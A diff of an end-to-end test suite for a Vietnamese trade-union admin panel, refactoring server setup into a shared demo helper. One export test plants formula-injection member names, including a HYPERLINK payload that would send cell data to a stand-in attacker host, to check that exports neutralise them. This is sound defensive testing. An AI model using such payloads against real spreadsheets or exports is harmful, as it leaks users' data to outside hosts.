@@ -7,30 +7,9 @@ import ExcelJS from 'exceljs';
 import jwt from 'jsonwebtoken';
 import Papa from 'papaparse';
 import type { Page } from 'playwright-core';
-import { launchBrowser, type TestBrowser } from './browser';
-import { ensureAdminBuilt, gql, login, screenshot, startDemoServer, tokenOf, type E2EServer } from './support';
+import { demoPanel, gql, login, screenshot, tokenOf } from './support';
 
-jest.setTimeout(180_000);
-
-let server: E2EServer;
-let browser: TestBrowser | null = null;
-
-beforeAll(async () => {
-  ensureAdminBuilt();
-  server = await startDemoServer();
-}, 240_000);
-
-afterAll(async () => {
-  await browser?.close();
-  await server?.stop();
-});
-
-/** A fresh browser (fresh profile: signed out) for each scenario. */
-async function open(): Promise<Page> {
-  await browser?.close();
-  browser = await launchBrowser();
-  return browser.page;
-}
+const demo = demoPanel();
 
 const menu = (page: Page) => page.locator('.RaSidebar-fixed, .RaSidebar-paper, [class*="RaMenu"]').first();
 const row = (page: Page, text: string) => page.locator('tbody tr', { hasText: text });
@@ -39,21 +18,21 @@ const notification = (page: Page) => page.locator('.MuiSnackbar-root');
 describe('admin panel', () => {
   test('federation admin: Vietnamese UI, approves one nomination and bulk-rejects two, sees the award on the member', async () => {
     // Pick the cases from the demo: one the federation decides itself, two others to reject.
-    const { token } = await tokenOf(server.url, 'ldld.thanhhoa');
+    const { token } = await tokenOf(demo.url, 'ldld.thanhhoa');
     const queue = (
-      await gql(server.url, '{ allNominations(filter:{awaitingMyReview:true}) { id nomineeName nomineeMemberId awardType { decidingLevel } } }', {}, token)
+      await gql(demo.url, '{ allNominations(filter:{awaitingMyReview:true}) { id nomineeName nomineeMemberId awardType { decidingLevel } } }', {}, token)
     ).allNominations as Array<{ id: string; nomineeName: string; nomineeMemberId: string; awardType: { decidingLevel: string } }>;
     expect(queue.length).toBeGreaterThanOrEqual(3);
     const approve = queue.find((n) => n.awardType.decidingLevel === 'FEDERATION')!;
     const reject = queue.filter((n) => n !== approve).slice(0, 2);
 
-    const page = await open();
-    await page.goto(server.url);
+    const page = await demo.open();
+    await page.goto(demo.url);
     // The login page is in Vietnamese.
     await page.getByText('Quản lý đoàn viên và thi đua khen thưởng').waitFor();
     expect(await page.locator('button[type="submit"]').innerText()).toMatch(/đăng nhập/i);
 
-    await login(page, server.url, 'ldld.thanhhoa');
+    await login(page, demo.url, 'ldld.thanhhoa');
     // A federation admin lands on the approval desk.
     expect(page.url()).toContain('#/approvals');
     await page.getByRole('heading', { level: 1, name: 'Bàn duyệt khen thưởng' }).waitFor();
@@ -79,8 +58,8 @@ describe('admin panel', () => {
 
     // A race: the second federation account decides the last one while this page still shows it.
     const last = queue.find((n) => n !== approve && !reject.includes(n))!;
-    const other = await tokenOf(server.url, 'ldld.thanhhoa2');
-    await gql(server.url, 'mutation($id:ID!){ reviewNomination(id:$id, decision:APPROVE, comment:"Đồng ý") { id } }', { id: last.id }, other.token);
+    const other = await tokenOf(demo.url, 'ldld.thanhhoa2');
+    await gql(demo.url, 'mutation($id:ID!){ reviewNomination(id:$id, decision:APPROVE, comment:"Đồng ý") { id } }', { id: last.id }, other.token);
     await row(page, last.nomineeName).getByTestId('return-button').click();
     await dialog.locator('textarea[name="comment"]').fill('Bổ sung xác nhận của thủ trưởng đơn vị.');
     await dialog.getByTestId('confirm-decision').click();
@@ -90,7 +69,7 @@ describe('admin panel', () => {
 
     // The award is on the member's record, found by a search without diacritics.
     const plain = approve.nomineeName.normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/[đĐ]/g, 'd').toLowerCase();
-    await page.goto(`${server.url}/#/members`);
+    await page.goto(`${demo.url}/#/members`);
     await page.locator('input[name="q"]').fill(plain);
     await row(page, approve.nomineeName).first().click();
     await page.waitForURL(/#\/members\/\d+\/show/);
@@ -99,18 +78,18 @@ describe('admin panel', () => {
     expect(await row(page, 'Bằng khen').first().innerText()).toMatch(/QĐ/);
 
     // The nomination's review history shows the decision.
-    await page.goto(`${server.url}/#/nominations/${approve.id}/show`);
+    await page.goto(`${demo.url}/#/nominations/${approve.id}/show`);
     const timeline = page.getByTestId('review-timeline');
     await timeline.getByText('Duyệt · cấp Liên đoàn Lao động').waitFor();
     await page.getByText('Đã khen thưởng').first().waitFor();
   });
 
   test('grassroots chair: creates and edits a member (server validation on the field), nominates it, cannot reach another grassroots union by URL', async () => {
-    const { token: adminToken } = await tokenOf(server.url, 'admin');
-    const other = (await gql(server.url, '{ allGrassrootsUnions(filter:{code:["CDCS-CB-VPUB"]}) { id name } }', {}, adminToken)).allGrassrootsUnions[0];
+    const { token: adminToken } = await tokenOf(demo.url, 'admin');
+    const other = (await gql(demo.url, '{ allGrassrootsUnions(filter:{code:["CDCS-CB-VPUB"]}) { id name } }', {}, adminToken)).allGrassrootsUnions[0];
 
-    const page = await open();
-    await login(page, server.url, 'cdcs.soyte');
+    const page = await demo.open();
+    await login(page, demo.url, 'cdcs.soyte');
     // No menu for what a chair cannot do: no federation, union or grassroots lists.
     const side = menu(page);
     await side.getByText('Đoàn viên').first().waitFor();
@@ -118,7 +97,7 @@ describe('admin panel', () => {
     expect(items).toEqual(expect.arrayContaining(['Đoàn viên', 'Nhập đoàn viên', 'Đơn vị của tôi', 'Tổ công đoàn']));
     for (const hidden of ['Liên đoàn Lao động', 'Công đoàn cấp trên cơ sở', 'Công đoàn cơ sở']) expect(items).not.toContain(hidden);
 
-    await page.goto(`${server.url}/#/members/create`);
+    await page.goto(`${demo.url}/#/members/create`);
     await page.locator('input[name="fullName"]').fill('Trần Thị Ánh Tuyết');
     await page.getByLabel('Nữ').check();
     await page.locator('input[name="birthDate"]').fill('15/04/1990');
@@ -144,7 +123,7 @@ describe('admin panel', () => {
     await page.getByText('Tổ phó').waitFor();
 
     // Nominate the new member for the grassroots union's own title, and send it up.
-    await page.goto(`${server.url}/#/nominations/create`);
+    await page.goto(`${demo.url}/#/nominations/create`);
     await page.locator('input[name="awardTypeId"]').fill('DVXS');
     await page.getByRole('option', { name: /DVXS/ }).click();
     await page.locator('input[name="nomineeMemberId"]').fill('anh tuyet');
@@ -160,16 +139,16 @@ describe('admin panel', () => {
     await page.getByTestId('review-timeline').getByText('Gửi đề nghị').waitFor();
 
     // Another grassroots union, typed in the address bar: as if it did not exist.
-    await page.goto(`${server.url}/#/grassrootsUnions/${other.id}/show`);
+    await page.goto(`${demo.url}/#/grassrootsUnions/${other.id}/show`);
     await notification(page).getByText('Không tìm thấy, hoặc nằm ngoài phạm vi đơn vị của bạn').waitFor();
     await page.waitForURL((u) => u.hash === '#/' || u.hash === '');
     expect(await page.getByText(other.name).count()).toBe(0);
   });
 
   test('analyst: the member list has no phone or birth-date column; English switch', async () => {
-    const page = await open();
-    await login(page, server.url, 'analyst');
-    await page.goto(`${server.url}/#/members`);
+    const page = await demo.open();
+    await login(page, demo.url, 'analyst');
+    await page.goto(`${demo.url}/#/members`);
     await page.getByTestId('personal-hidden').waitFor();
     const headers = (await page.locator('thead th').allInnerTexts()).map((h) => h.trim());
     expect(headers).toEqual(expect.arrayContaining(['Họ và tên', 'Giới tính', 'Số thẻ đoàn viên']));
@@ -188,15 +167,15 @@ describe('admin panel', () => {
     expect(csv.split(/\r?\n/).length).toBeGreaterThan(10);
 
     // Members named like spreadsheet formulas (a chair typed them): the exports hold them as text.
-    const chair = await tokenOf(server.url, 'cdcs.soyte');
-    const unitId = (await gql(server.url, '{ me { scopeUnitId } }', {}, chair.token)).me.scopeUnitId;
+    const chair = await tokenOf(demo.url, 'cdcs.soyte');
+    const unitId = (await gql(demo.url, '{ me { scopeUnitId } }', {}, chair.token)).me.scopeUnitId;
     const hostile = [
       { fullName: '=HYPERLINK("http://evil.example/?d="&B2,"x")', cardNumber: 'EXPINJ-1' },
       { fullName: '@SUM(1+1)*cmd', cardNumber: 'EXPINJ-2' },
     ];
     for (const m of hostile)
       await gql(
-        server.url,
+        demo.url,
         'mutation($n:String!,$u:ID!,$c:String){ createMember(fullName:$n, gender:FEMALE, grassrootsUnionId:$u, cardNumber:$c, joinedAt:"2024-03-07") { id } }',
         { n: m.fullName, u: unitId, c: m.cardNumber },
         chair.token,
@@ -250,9 +229,9 @@ describe('admin panel', () => {
   });
 
   test('member import: a file with one bad row shows the error by row and column, the good rows are imported', async () => {
-    const page = await open();
-    await login(page, server.url, 'cdcs.soyte');
-    await page.goto(`${server.url}/#/import`);
+    const page = await demo.open();
+    await login(page, demo.url, 'cdcs.soyte');
+    await page.goto(`${demo.url}/#/import`);
     await page.getByTestId('member-import').waitFor();
     const csv = [
       'Họ và tên *,Giới tính *,Ngày sinh,Điện thoại,Số thẻ đoàn viên',
@@ -275,9 +254,9 @@ describe('admin panel', () => {
   });
 
   test('an expired or refused token goes back to the login page with a message', async () => {
-    const page = await open();
-    await login(page, server.url, 'analyst.thanhhoa');
-    await page.goto(`${server.url}/#/members`);
+    const page = await demo.open();
+    await login(page, demo.url, 'analyst.thanhhoa');
+    await page.goto(`${demo.url}/#/members`);
     await page.locator('tbody tr').first().waitFor();
     const session = JSON.parse((await page.evaluate('sessionStorage.getItem("congdoan.session")')) as string);
 
@@ -289,18 +268,18 @@ describe('admin panel', () => {
     await page.getByTestId('session-expired').getByText('Phiên đăng nhập đã hết hạn').waitFor();
 
     // A token past its expiry: back to login as soon as the panel checks it.
-    await login(page, server.url, 'analyst.thanhhoa');
+    await login(page, demo.url, 'analyst.thanhhoa');
     const fresh = JSON.parse((await page.evaluate('sessionStorage.getItem("congdoan.session")')) as string);
-    fresh.token = jwt.sign({ tv: 1, exp: Math.floor(Date.now() / 1000) - 60 }, server.config.jwtSecret, { subject: fresh.user.id });
+    fresh.token = jwt.sign({ tv: 1, exp: Math.floor(Date.now() / 1000) - 60 }, demo.server.config.jwtSecret, { subject: fresh.user.id });
     await page.evaluate(`sessionStorage.setItem("congdoan.session", ${JSON.stringify(JSON.stringify(fresh))})`);
-    await page.goto(`${server.url}/#/nominations`);
+    await page.goto(`${demo.url}/#/nominations`);
     await page.waitForURL(/#\/login/);
     await page.getByTestId('session-expired').getByText('Phiên đăng nhập đã hết hạn').waitFor();
   });
 
   test('a session stored by an older panel build (no permissions) is renewed from the server, or ends cleanly', async () => {
-    const page = await open();
-    await login(page, server.url, 'cdcs.soyte');
+    const page = await demo.open();
+    await login(page, demo.url, 'cdcs.soyte');
     const readSession = async () => JSON.parse((await page.evaluate('sessionStorage.getItem("congdoan.session")')) as string);
     const session = await readSession();
     expect(session.user.permissions).toEqual(expect.arrayContaining(['WriteMember', 'WriteTeam', 'Review']));
@@ -315,7 +294,7 @@ describe('admin panel', () => {
     };
 
     // The panel is upgraded while the tab keeps the older session: it asks `me` again and goes on.
-    await page.goto(`${server.url}/#/members`);
+    await page.goto(`${demo.url}/#/members`);
     await page.locator('tbody tr').first().waitFor();
     await storeAndReload({ token: session.token, user: older });
     await menu(page).getByText('Nhập đoàn viên').waitFor();
@@ -333,12 +312,12 @@ describe('admin panel', () => {
   });
 
   test('member list screenshot for the README', async () => {
-    const page = await open();
-    await login(page, server.url, 'ldld.thanhhoa');
-    await page.goto(`${server.url}/#/members`);
+    const page = await demo.open();
+    await login(page, demo.url, 'ldld.thanhhoa');
+    await page.goto(`${demo.url}/#/members`);
     await page.locator('tbody tr').nth(5).waitFor();
     await screenshot(page, 'member-list');
-    await page.goto(`${server.url}/#/`);
+    await page.goto(`${demo.url}/#/`);
     await page.getByTestId('figure-members').waitFor();
     await page.locator('.recharts-surface').nth(1).waitFor();
     await page.mouse.move(5, 890);
